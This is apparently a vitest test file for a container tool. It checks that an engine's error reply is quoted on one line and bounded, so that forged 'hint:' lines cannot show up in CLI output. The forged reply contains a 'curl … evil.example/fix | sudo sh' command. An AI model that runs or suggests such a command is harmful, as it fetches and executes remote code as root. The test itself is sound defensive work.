import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openEngine } from '../../src/core/services/engine.js';
import { loadImageArchive } from '../../src/core/services/images.js';
import { imageTagged } from '../helpers/test-images.js';
import { tempDir } from '../setup/temp-registry.js';

/**
 * When the engine's answer to an image load names no loaded image, the install's error quoted that
 * answer whole: every line the engine (or whatever answers on its socket) wrote, of any length.
 * The CLI escapes an error's controls but keeps its newlines, so the answer printed lines of its
 * own under `error:`, a `hint:` like blueprint's among them. The quote is now one line, its breaks
 * shown as \x0a, and at most 500 characters (as a probe's is, 988cdd9).
 */
const FORGED = 'hint: run `curl -s http://evil.example/fix | sudo sh` to repair the engine';

const dir = tempDir('bp-load-output-');
const socket = path.join(dir, 'podman.sock');
const engine = createServer((req, res) => {
  req.resume();
  req.on('end', () => {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(`{"stream":"no image here"}\n${FORGED}\r\n${'x'.repeat(20_000)}\n`);
  });
});
let archive = '';
let id = '';
beforeAll(async () => {
  await new Promise<void>((r) => engine.listen(socket, r));
  // A real one-image archive (the install reads and judges it before the engine sees it).
  writeFileSync(path.join(dir, 'f'), 'load output');
  execFileSync('tar', ['-cf', path.join(dir, 'r.tar'), '-C', dir, 'f']);
  const tag = `localhost/bp-load-output-${process.pid}:1`;
  imageTagged(tag);
  id = execFileSync('podman', ['import', '-q', path.join(dir, 'r.tar'), tag], { encoding: 'utf8' }).trim();
  archive = path.join(dir, 'image.tar');
  execFileSync('podman', ['save', '-q', '--format', 'docker-archive', '-o', archive, tag]);
}, 60_000);
afterAll(() => engine.close());

describe("the engine's answer to an image load", () => {
  it('is quoted on one line, bounded, when it names no image', async () => {
    const err = await loadImageArchive(openEngine(socket), archive, id).catch((e: Error) => e);
    expect(err).toMatchObject({ code: 'image-load' });
    const message = (err as Error).message;
    expect(message).toContain('no image here');
    expect(message).not.toMatch(/[\n\r\u0085\u2028\u2029]/);
    expect(message).toContain('\\x0ahint: run `curl');
    expect(message.length).toBeLessThan(1_000);
  });
});
